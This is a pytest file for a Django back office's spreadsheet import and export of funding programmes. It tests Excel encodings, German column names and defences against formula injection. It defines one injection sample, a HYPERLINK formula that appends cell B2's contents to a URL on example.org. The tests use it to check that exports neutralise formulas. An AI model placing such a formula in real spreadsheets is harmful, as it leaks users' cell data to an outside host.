"""Import and export files as spreadsheet programs write and read them."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from funding.models import FundingProgramme
from tests.admin_forms import admin_url
from werkzeugkoffer.backoffice.formats import SafeXLSX, SpreadsheetCSV

from .test_import_export import CSV, XLSX, changed_rows, export_rows, preview, problems

FORMULA = '=HYPERLINK("https://example.org/?"&B2,"Details")'


def new_row(make_programme):
    headers, rows = export_rows(FundingProgramme.objects.filter(pk=make_programme().pk))
    row = ["" if value is None else str(value) for value in rows[0]]
    row[headers.index("slug")] = "aus-excel"
    row[headers.index("version")] = ""
    row[headers.index("title")] = "Förderung für Straßen und Plätze"
    return headers, row


def as_excel_csv(headers, row, encoding, delimiter):
    import csv

    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerow(row)
    return buffer.getvalue().encode(encoding)


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("cp1252", ";"), ("utf-8-sig", ";"), ("utf-8-sig", ","), ("utf-8", ",")],
    ids=["excel-windows-1252", "excel-utf8-bom", "utf8-bom-comma", "utf8"],
)
def test_csv_files_as_excel_saves_them_are_read(reviewer, make_programme, encoding, delimiter):
    headers, row = new_row(make_programme)
    upload = SimpleUploadedFile("import.csv", as_excel_csv(headers, row, encoding, delimiter))

    response = preview(reviewer, upload)

    assert response.status_code == 200
    assert changed_rows(response) == [(1, "new")], problems(response)
    assert "Förderung für Straßen und Plätze" in response.content.decode()


def test_an_unreadable_file_is_refused_with_one_german_sentence(reviewer):
    upload = SimpleUploadedFile("import.csv", b"\x81\x8d\x8f\x90\x9d;\x81\n")
    content = preview(reviewer, upload).content.decode()
    assert "weder in UTF-8 noch in Windows-1252" in content
    assert "Error" not in content and "encountered" not in content


def test_a_csv_export_makes_formulas_inert_and_its_import_restores_them(reviewer, make_programme):
    programme = make_programme(summary=FORMULA, amount_text="-50 % der Kosten")
    response = reviewer.post(
        admin_url(FundingProgramme, "export"),
        {"format": CSV, "resource": "0", "export_items": [programme.pk], "fundingprogrammeresource_summary": "on"},
    )
    content = response.content.decode()
    assert "'" + FORMULA.replace('"', '""') in content
    dataset = SpreadsheetCSV().create_dataset(response.content)
    assert dataset.dict[0]["Kurzbeschreibung"] == FORMULA


def test_an_xlsx_export_stores_formulas_as_text(make_programme):
    from funding.resources import FundingProgrammeResource

    programme = make_programme(summary=FORMULA)
    dataset = FundingProgrammeResource().export(FundingProgramme.objects.filter(pk=programme.pk))
    book = openpyxl.load_workbook(io.BytesIO(SafeXLSX().export_data(dataset)))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert SafeXLSX().create_dataset(SafeXLSX().export_data(dataset)).dict[0]["Kurzbeschreibung"] == FORMULA


def test_the_back_office_offers_only_the_safe_formats(reviewer):
    content = reviewer.get(admin_url(FundingProgramme, "import")).content.decode()
    assert f'<option value="{CSV}">csv</option>' in content and f'<option value="{XLSX}">xlsx</option>' in content


@pytest.mark.parametrize(
    "resource_path",
    [
        "funding.resources.FundingProgrammeResource",
        "projects.resources.PracticeExampleResource",
        "contacts.resources.ContactResource",
    ],
)
def test_exports_have_german_column_names_that_an_import_reads_back(db, resource_path):
    from django.utils.module_loading import import_string

    resource = import_string(resource_path)()
    headers = resource.get_export_headers()
    assert len(set(headers)) == len(headers)
    assert {"Titel", "Fassung", "Kurzname für Adressen", "veröffentlichen ab"} & set(headers) >= {
        "Fassung",
        "Kurzname für Adressen",
    }
    assert not {"publish_at", "slug", "version", "review_due"} & set(headers)
    dataset = resource.export(resource._meta.model.objects.order_by("pk")[:3])
    resource.before_import(dataset)
    assert set(dataset.headers) <= {field.column_name for field in resource.get_import_fields()} | {"version", "tags"}


def test_an_import_with_german_column_names_updates_the_entry(reviewer, make_programme):
    from funding.resources import FundingProgrammeResource

    programme = make_programme()
    dataset = FundingProgrammeResource().export(FundingProgramme.objects.filter(pk=programme.pk))
    row = list(dataset[0])
    row[dataset.headers.index("Titel")] = "Neuer Titel aus Excel"
    content = as_excel_csv(dataset.headers, ["" if value is None else value for value in row], "cp1252", ";")

    response = preview(reviewer, SimpleUploadedFile("import.csv", content))

    assert changed_rows(response) == [(1, "update")]
    assert "Neuer Titel aus Excel" in response.content.decode()


def test_the_export_file_has_a_german_name(reviewer, make_programme):
    from django.utils import timezone

    programme = make_programme()
    response = reviewer.post(
        admin_url(FundingProgramme, "export"),
        {"format": CSV, "resource": "0", "export_items": [programme.pk], "fundingprogrammeresource_slug": "on"},
    )
    expected = f'attachment; filename="foerderprogramme-{timezone.localdate():%Y-%m-%d}.csv"'
    assert response["Content-Disposition"] == expected


def test_the_export_button_exports_exactly_the_current_filter(reviewer, make_programme):
    from werkzeugkoffer.models import PublicationStatus

    make_programme(slug="entwurf-eins", title="Entwurf eins", status=PublicationStatus.DRAFT)
    make_programme(slug="oeffentlich", title="Öffentlich")
    changelist = reviewer.get(admin_url(FundingProgramme, "changelist"), {"status__exact": "entwurf"}).content.decode()
    export_link = f"{admin_url(FundingProgramme, 'export')}?status__exact=entwurf"
    assert f'href="{export_link}"' in changelist

    page = reviewer.get(export_link)
    assert page.status_code == 200
    response = reviewer.post(export_link, {"format": CSV, "resource": "0", "fundingprogrammeresource_slug": "on"})

    slugs = response.content.decode("utf-8-sig").splitlines()[1:]
    expected = set(FundingProgramme.objects.filter(status="entwurf").values_list("slug", flat=True))
    assert set(slugs) == expected and "entwurf-eins" in slugs and "oeffentlich" not in slugs
